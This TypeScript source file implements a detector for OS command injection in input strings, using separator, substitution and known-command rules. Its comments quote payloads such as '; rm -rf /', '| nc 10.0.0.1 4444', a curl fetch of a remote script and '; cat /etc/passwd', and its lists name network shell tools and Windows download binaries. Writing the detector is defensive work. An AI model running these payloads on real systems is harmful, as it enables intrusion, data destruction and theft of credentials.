/**
 * OS command injection (OWASP WSTG-INPV-12; CWE-78): a value that, pasted into a shell command line, ends the
 * application's command and starts the attacker's. The detector looks for a shell separator or substitution
 * followed by a known command in command position with a plausible argument:
 *
 * - separators `;` `|` `||` `&` `&&` and newlines: `; rm -rf /`, `| nc 10.0.0.1 4444`, `&& curl http://x/s.sh`,
 *   `%0aid` (after decoding)
 * - substitutions: `$(whoami)`, `` `id` ``, `${IFS}` and `$IFS$9` (space substitutes), `/dev/tcp/` (bash sockets)
 *
 * "Cats; dogs & birds | fish" has separators but no command with a shell-shaped argument, so it passes;
 * "; cat lovers" passes (a word argument without `/`, `.`, `-` or `$`); "; cat /etc/passwd" does not.
 */
import { F, charFlags, isDigit, isSpace, isWordChar, meter, skipSpaces, startsWithAt } from './text.ts';

/** Commands that are an attack on their own, with no argument (`; id`, `| whoami`, `` `uname` ``). */
const STANDALONE = new Set([
  'id', 'whoami', 'uname', 'ls', 'pwd', 'ifconfig', 'ipconfig', 'hostname', 'env', 'printenv', 'ps', 'netstat', 'sh',
  'bash', 'zsh', 'dash', 'ksh', 'csh', 'tcsh', 'reboot', 'halt', 'systeminfo', 'ver', 'dir', 'cmd', 'powershell', 'pwsh',
  'busybox', 'getent', 'lsb_release',
]);

/** Commands whose first argument may be a bare number (`| nc 10.0.0.1 4444`, `; sleep 5`, `; ping 127.0.0.1`). */
const NUMERIC_ARGUMENT = new Set(['nc', 'ncat', 'netcat', 'socat', 'telnet', 'ping', 'sleep', 'timeout', 'kill', 'nslookup', 'dig', 'host', 'traceroute', 'ssh', 'ftp', 'tftp', 'curl', 'wget']);

/** Commands that need an argument to be an attack (`; cat /etc/passwd`, not "; cat lovers welcome"). */
const WITH_ARGUMENT = new Set([
  'cat', 'tac', 'more', 'less', 'head', 'tail', 'nl', 'rm', 'rmdir', 'mv', 'cp', 'chmod', 'chown', 'touch', 'mkdir',
  'mkfifo', 'mknod', 'ln', 'dd', 'nc', 'ncat', 'netcat', 'socat', 'telnet', 'ssh', 'scp', 'ftp', 'tftp', 'curl', 'wget',
  'ping', 'nslookup', 'dig', 'host', 'traceroute', 'sleep', 'timeout', 'echo', 'printf', 'base64', 'xxd', 'od', 'python',
  'python2', 'python3', 'perl', 'ruby', 'php', 'node', 'lua', 'java', 'sudo', 'su', 'kill', 'killall', 'pkill', 'crontab',
  'awk', 'gawk', 'sed', 'find', 'grep', 'xargs', 'tar', 'zip', 'unzip', 'gzip', 'openssl', 'eval', 'exec', 'nohup',
  'type', 'certutil', 'bitsadmin', 'regsvr32', 'mshta', 'rundll32', 'wmic', 'net', 'reg', 'del', 'copy', 'start',
  'iwr', 'invoke-webrequest', 'invoke-expression', 'iex', 'sh', 'bash', 'cmd', 'powershell', 'pwsh', 'bin', 'chattr',
]);

const MAX_COMMAND = 24;
const MAX_ARGUMENT = 128;

/** `${IFS}` / `$IFS` / `$IFS$9`: what attackers write instead of a space where spaces are filtered. */
function ifsAt(s: string, i: number): number {
  if (startsWithAt(s, i, '${ifs}')) return i + 6;
  if (startsWithAt(s, i, '$ifs')) {
    let j = i + 4;
    if (s.charCodeAt(j) === 0x24 && isDigit(s.charCodeAt(j + 1))) j += 2;
    return j;
  }
  return -1;
}

/** Skips blanks and space substitutes between a separator and a command. */
function skipBlanks(s: string, i: number): number {
  for (;;) {
    const j = skipSpaces(s, i);
    const k = ifsAt(s, j);
    if (k === -1) return j;
    i = k;
  }
}

function isSeparatorChar(c: number): boolean {
  return c === 0x3b || c === 0x7c || c === 0x26 || c === 0x0a || c === 0x0d || c === 0x60;
}

/**
 * Whether a command in command position starts at `i`. `inSubstitution` relaxes the argument rule: inside `$( )` or
 * backticks any known command is an attack.
 */
function commandAt(s: string, i: number, inSubstitution: boolean): boolean {
  const n = s.length;
  i = skipBlanks(s, i);
  // An absolute path to the binary: /bin/sh, /usr/bin/id, C:\Windows\System32\cmd.exe
  let start = i;
  for (let j = i; j < n && j - i < 64; j++) {
    const c = s.charCodeAt(j);
    if (c === 0x2f || c === 0x5c) start = j + 1;
    else if (!isWordChar(c) && c !== 0x2e && c !== 0x3a && c !== 0x2d) break;
  }
  let end = start;
  while (end < n && end - start <= MAX_COMMAND && (isWordChar(s.charCodeAt(end)) || s.charCodeAt(end) === 0x2d)) end++;
  if (end === start || end - start > MAX_COMMAND) return false;
  meter.steps += end - i;
  let name = s.slice(start, end).toLowerCase();
  if (s.charCodeAt(end) === 0x2e && startsWithAt(s, end, '.exe')) end += 4;
  if (name.endsWith('.exe')) name = name.slice(0, -4);
  const standalone = STANDALONE.has(name);
  const withArgument = WITH_ARGUMENT.has(name);
  if (!standalone && !withArgument) return false;
  if (inSubstitution) return true;
  const next = end < n ? s.charCodeAt(end) : -1;
  // Command followed by the end, another separator, a comment or a redirection.
  if (next === -1 || isSeparatorChar(next) || next === 0x23 || next === 0x29 || next === 0x3e || next === 0x3c) return standalone;
  if (!isSpace(next) && ifsAt(s, end) === -1) return false;
  const a = skipBlanks(s, end);
  if (a >= n) return standalone;
  const c = s.charCodeAt(a);
  if (isSeparatorChar(c) || c === 0x23) return standalone;
  // Shell-shaped first argument: option, path, variable, quote, number, redirection.
  if (c === 0x2d || c === 0x2f || c === 0x2e || c === 0x7e || c === 0x24 || c === 0x27 || c === 0x22 || c === 0x3c || c === 0x3e || c === 0x5c || c === 0x25 || c === 0x2a) {
    return true;
  }
  if (isDigit(c)) {
    // `; sleep 5`, `| nc 10.0.0.1 4444`: the number ends the command or another argument follows it;
    // "work & sleep 8 hours" goes on in words.
    if (!NUMERIC_ARGUMENT.has(name)) return false;
    let j = a;
    while (j < n && j - a < MAX_ARGUMENT && !isSpace(s.charCodeAt(j)) && !isSeparatorChar(s.charCodeAt(j))) j++;
    j = skipBlanks(s, j);
    if (j >= n) return true;
    const f = s.charCodeAt(j);
    return isSeparatorChar(f) || isDigit(f) || f === 0x23 || f === 0x2d || f === 0x2f || f === 0x3e || f === 0x3c;
  }
  // A host, file or URL argument: curl evil.example/x, cat flag.txt, wget http://..., dir C:\
  for (let j = a; j < n && j - a < MAX_ARGUMENT; j++) {
    meter.steps++;
    const d = s.charCodeAt(j);
    if (isSpace(d) || isSeparatorChar(d)) break;
    if (d === 0x2e || d === 0x2f || d === 0x3a || d === 0x5c) return true;
  }
  return false;
}

/** `amp;`, `#39;`, `quot;` at `i` (the text after an `&`). */
function entityAt(s: string, i: number): boolean {
  for (let j = i; j < s.length && j - i <= 8; j++) {
    const c = s.charCodeAt(j);
    if (c === 0x3b) return j > i;
    if (!isWordChar(c) && c !== 0x23) return false;
  }
  return false;
}

export function detectCommand(s: string, flags = charFlags(s)): boolean {
  if ((flags & (F.SEMI | F.PIPE | F.AMP | F.NEWLINE | F.BACKTICK | F.DOLLAR)) === 0) {
    return (flags & F.SLASH) !== 0 && (s.includes('/dev/tcp/') || s.includes('/dev/udp/'));
  }
  const n = s.length;
  for (let i = 0; i < n; i++) {
    meter.steps++;
    const c = s.charCodeAt(i);
    if (c === 0x3b || c === 0x0a || c === 0x0d) {
      // Line breaks are separators and blanks at once: from any of a run of them the next command position is the
      // same, past the whole run. Look once, then go on after the run (not from each break in turn, which read the
      // rest of the run again for each one: quadratic in a body of newlines). Only spaces are skipped here: `$IFS`
      // still reaches its own branch below.
      const next = skipSpaces(s, i + 1);
      if (commandAt(s, next, false)) return true;
      i = next - 1;
    } else if (c === 0x7c || c === 0x26) {
      const j = s.charCodeAt(i + 1) === c ? i + 2 : i + 1;
      // `&amp;` and other entities are not a background operator.
      if (c === 0x26 && j === i + 1 && entityAt(s, j)) continue;
      if (commandAt(s, j, false)) return true;
      i = j - 1;
    } else if (c === 0x60 /* ` */) {
      const close = s.indexOf('`', i + 1);
      if (close !== -1 && commandAt(s, i + 1, false)) return true;
      // Only the opening backtick starts a command; skip to the closing one.
      if (close !== -1) i = close;
    } else if (c === 0x24 /* $ */) {
      const d = s.charCodeAt(i + 1);
      if (d === 0x28 && s.charCodeAt(i + 2) !== 0x28 && commandAt(s, i + 2, true)) return true; // $(cmd), not $((1+1))
      if (ifsAt(s, i) !== -1) return true;
    } else if (c === 0x2f && (startsWithAt(s, i, '/dev/tcp/') || startsWithAt(s, i, '/dev/udp/'))) {
      return true;
    }
  }
  return false;
}
